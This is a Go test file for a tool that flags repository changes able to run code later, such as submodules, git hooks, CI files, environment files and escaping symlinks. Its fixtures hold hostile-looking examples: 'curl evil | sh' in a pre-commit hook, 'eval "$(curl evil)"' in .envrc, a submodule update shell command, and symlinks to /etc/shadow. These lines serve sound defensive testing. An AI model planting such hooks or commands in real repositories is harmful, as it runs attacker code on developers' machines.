package runs

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/dirtywork/dirtywork/gitops"
)

func TestRisksNamesEveryKindOfPathThatRunsCodeLater(t *testing.T) {
	t.Parallel()
	blobs := map[string]string{
		"attr-filter":  "# a comment names filter=nothing\n*.c filter=lfs diff=evil\n",
		"attr-unset":   "*.bin -diff -merge binary\n",
		"link-out":     "../../../etc/passwd",
		"link-abs":     "/etc/shadow",
		"link-inside":  "../docs/readme.md",
		"link-in":      "../../etc/passwd",
		"link-climbs":  "..",
		"attr-comment": "# filter=x\n",
	}
	read := func(sha string) ([]byte, error) {
		if b, ok := blobs[sha]; ok {
			return []byte(b), nil
		}
		return nil, errors.New("no such blob")
	}
	file := func(p, status string) gitops.FileChange {
		return gitops.FileChange{Path: p, Status: status, OldMode: "100644", NewMode: "100644"}
	}
	withBlob := func(c gitops.FileChange, mode, blob string) gitops.FileChange {
		c.NewMode, c.NewBlob = mode, blob
		return c
	}
	added := func(p string) gitops.FileChange {
		c := file(p, "A")
		c.OldMode = "000000"
		return c
	}
	for _, tc := range []struct {
		change gitops.FileChange
		kind   string // "" when the change is no risk
	}{
		{added(".gitmodules"), RiskSubmodules},
		{file(".gitmodules", "M"), RiskSubmodules},
		{file("sub/.gitmodules", "A"), ""}, // git reads only the top-level one
		{added(".husky/pre-commit"), RiskHooks},
		{added(".githooks/pre-push"), RiskHooks},
		{added(".git-hooks/commit-msg"), RiskHooks},
		{added(".pre-commit-config.yaml"), RiskHooks},
		{added("lefthook.yml"), RiskHooks},
		{added(".overcommit.yml"), RiskHooks},
		{added(".github/workflows/release.yml"), RiskCI},
		{added(".gitlab-ci.yml"), RiskCI},
		{added("Jenkinsfile"), RiskCI},
		{added(".envrc"), RiskEnv},
		{added(".vscode/tasks.json"), RiskEnv},
		{added(".devcontainer/devcontainer.json"), RiskEnv},
		{withBlob(added(".gitattributes"), "100644", "attr-filter"), RiskAttributes},
		{withBlob(added("deep/.gitattributes"), "100644", "attr-filter"), RiskAttributes},
		{withBlob(added(".gitattributes"), "100644", "attr-unset"), ""},
		{withBlob(added(".gitattributes"), "100644", "attr-comment"), ""},
		{withBlob(added(".gitattributes"), "100644", "missing"), RiskAttributes}, // unreadable: reported, not trusted
		{withBlob(added("a/b/link"), "120000", "link-out"), RiskLink},
		{withBlob(added("a/b/in"), "120000", "link-in"), ""}, // a/b/../../x stays inside
		{withBlob(added("abs"), "120000", "link-abs"), RiskLink},
		{withBlob(added("top"), "120000", "link-climbs"), RiskLink},
		{withBlob(added("a/b/inside"), "120000", "link-inside"), ""},
		{withBlob(added("tool.sh"), "100755", ""), RiskExecutable},
		{withBlob(file("old.sh", "M"), "100755", ""), RiskExecutable},
		{gitops.FileChange{Path: ".gitmodules", Status: "D", OldMode: "100644", NewMode: "000000"}, ""}, // removing one runs nothing
		{gitops.FileChange{Path: ".husky/pre-commit", Status: "D", OldMode: "100755", NewMode: "000000"}, ""},
		{added("src/main.go"), ""},
		{added("docs/hooks.md"), ""},
	} {
		got := Risks([]gitops.FileChange{tc.change}, read)
		var kinds []string
		for _, r := range got {
			if r.Path != tc.change.Path || r.Detail == "" {
				t.Errorf("%s: risk %+v names another path or says nothing", tc.change.Path, r)
			}
			kinds = append(kinds, r.Kind)
		}
		switch {
		case tc.kind == "" && len(kinds) > 0:
			t.Errorf("%s (%s, mode %s): risks %v, want none", tc.change.Path, tc.change.Status, tc.change.NewMode, kinds)
		case tc.kind != "" && !slices.Contains(kinds, tc.kind):
			t.Errorf("%s (%s, mode %s): risks %v, want %s", tc.change.Path, tc.change.Status, tc.change.NewMode, kinds, tc.kind)
		}
	}
	// Without a blob reader the content checks cannot clear a change:
	// every .gitattributes and every link is reported.
	for _, c := range []gitops.FileChange{withBlob(added(".gitattributes"), "100644", "attr-unset"), withBlob(added("a/b/inside"), "120000", "link-inside")} {
		if got := Risks([]gitops.FileChange{c}, nil); len(got) != 1 {
			t.Errorf("%s without a reader: %+v, want one risk", c.Path, got)
		}
	}
}

// riskyChanges is a worker's change set that touches every kind of path
// that makes tools run code later.
var riskyChanges = map[string]string{
	".gitmodules":                     "[submodule \"evil\"]\n\tpath = evil\n\turl = ../evil\n\tupdate = !sh -c 'touch /tmp/owned'\n",
	".husky/pre-commit":               "#!/bin/sh\ncurl evil | sh\n",
	".githooks/pre-push":              "#!/bin/sh\n",
	".pre-commit-config.yaml":         "repos: []\n",
	".envrc":                          "eval \"$(curl evil)\"\n",
	".vscode/tasks.json":              "{\"tasks\": [{\"runOn\": \"folderOpen\"}]}\n",
	".devcontainer/devcontainer.json": "{\"postCreateCommand\": \"sh evil\"}\n",
}

var riskyKinds = map[string]string{
	".gitmodules": RiskSubmodules, ".husky/pre-commit": RiskHooks, ".githooks/pre-push": RiskHooks,
	".pre-commit-config.yaml": RiskHooks, ".envrc": RiskEnv, ".vscode/tasks.json": RiskEnv,
	".devcontainer/devcontainer.json": RiskEnv,
}

func TestReviewAcceptAndMergeWarnOfSubmodulesHooksAndEnvironmentFiles(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	repo := newRepo(t)
	wt := e.addLaneRun(repo, "risky", nil)
	for p, content := range riskyChanges {
		writeFile(t, filepath.Join(wt, p), content)
	}
	if err := os.Chmod(filepath.Join(wt, ".husky", "pre-commit"), 0o755); err != nil {
		t.Fatal(err)
	}
	check := func(stage string, risks []Risk) {
		t.Helper()
		found := map[string][]string{}
		for _, r := range risks {
			found[r.Path] = append(found[r.Path], r.Kind)
		}
		for p, kind := range riskyKinds {
			if !slices.Contains(found[p], kind) {
				t.Errorf("%s: %s not warned of as %s (warnings %+v)", stage, p, kind, risks)
			}
		}
		if !slices.Contains(found[".husky/pre-commit"], RiskExecutable) {
			t.Errorf("%s: the new executable hook is not warned of (warnings %+v)", stage, risks)
		}
	}

	rv, err := e.store.ReviewDiff(t.Context(), "risky")
	if err != nil {
		t.Fatal(err)
	}
	check("review", rv.Diff.Risks)
	acc, err := e.store.Accept(t.Context(), "risky", AcceptOptions{})
	if err != nil {
		t.Fatal(err)
	}
	check("accept", acc.Risks)
	m, err := e.store.Merge(t.Context(), "risky", MergeOptions{})
	if err != nil {
		t.Fatal(err)
	}
	check("merge", m.Warnings)
	// Warning is all it does: no hook or submodule command ran on the way.
	assertNothingRan(t)
	if _, err := os.Stat("/tmp/owned"); err == nil {
		t.Error("/tmp/owned exists: a submodule update command ran")
	}
}
